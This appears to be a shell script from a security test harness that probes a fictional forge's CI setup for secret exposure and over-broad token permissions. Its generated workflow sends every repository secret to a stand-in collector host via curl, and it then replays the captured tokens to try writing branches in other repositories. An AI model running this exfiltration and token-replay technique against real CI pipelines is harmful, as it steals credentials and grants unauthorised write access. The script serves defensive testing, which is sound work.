# Mina looks at what code in a job could do: with the secrets of the repository, and with the job's own token.
good=0
git clone -q https://forge.test/lantern-tides/tides.git probe && cd probe && git switch -q -c probe || exit 127
rm -rf .github/workflows && mkdir -p .github/workflows
cat > .github/workflows/probe.yml <<'YAML'
on: { push: { branches: [probe] } }
jobs:
YAML
n=0
for place in '' $(gh api repos/lantern-tides/tides/environments --jq '.environments[].name'); do
  n=$(( n + 1 ))
  cat >> .github/workflows/probe.yml <<YAML
  probe-$n:
    runs-on: ubuntu-latest
    ${place:+environment: "$place"}
    steps:
      - env: { ALL: "\${{ toJSON(secrets) }}" }
        run: printf '%s' "\$ALL" | curl -s -d @- http://probe.cuckoo.invalid/
YAML
done
git add . && git commit -q -m "Look at what there is" && git push -q origin probe || exit 127
as sam <<'SAM'
gh repo fork lantern-tides/tides --clone > /dev/null 2>&1
cd tides && git switch -q -c one && git commit -q --allow-empty -m "One" && git push -q origin one
gh pr create -R lantern-tides/tides --head sam:one --base main --title "One" --body "One." > /dev/null
SAM
sleep 3m
loot cuckoo | sed -n '/probe.cuckoo.invalid/,$p' | sed '/^probe.cuckoo/d' > all
main=$(gh api repos/lantern-tides/tides/git/ref/heads/main --jq .object.sha)
other=$(gh api repos/lantern-tides/website/git/ref/heads/main --jq .object.sha)
try() { curl -s -o /dev/null -w '%{http_code}' -X POST -H "Authorization: token $1" -d "{\"ref\":\"refs/heads/tried-$RANDOM\",\"sha\":\"$3\"}" "https://api.forge.test/repos/lantern-tides/$2/git/refs"; }
jq -r 'to_entries[] | select(.key != "github_token") | "\(.key) \(.value)"' all | sort -u > secrets
while read -r secret token; do
  for place in "website $other" "tides $main"; do
    [ "$(try "$token" $place)" = 201 ] || continue
    [ $good = 1 ] || found BROAD secret="$secret" place="lantern-tides/${place% *}"
    evidence credential "$secret writes to lantern-tides/${place% *}"
    good=1
  done
done < secrets
# The log of a job begins with what its own token may do.
for run in $(gh run list -R lantern-tides/tides -e pull_request_target --json databaseId,displayTitle --jq '.[] | select(.displayTitle == "One") | .databaseId'); do
  wide=$(gh run view "$run" -R lantern-tides/tides --log | sed -n 's/^.*\t[^\t]* \([A-Za-z]*\): write$/\1/p' | grep -vxE 'Issues|PullRequests' | sort -u | head -n 1)
  [ -z "$wide" ] && continue
  found WIDE permission="$wide"
  evidence ci.logs "run $run: $wide: write"
  good=1
done
exit $good
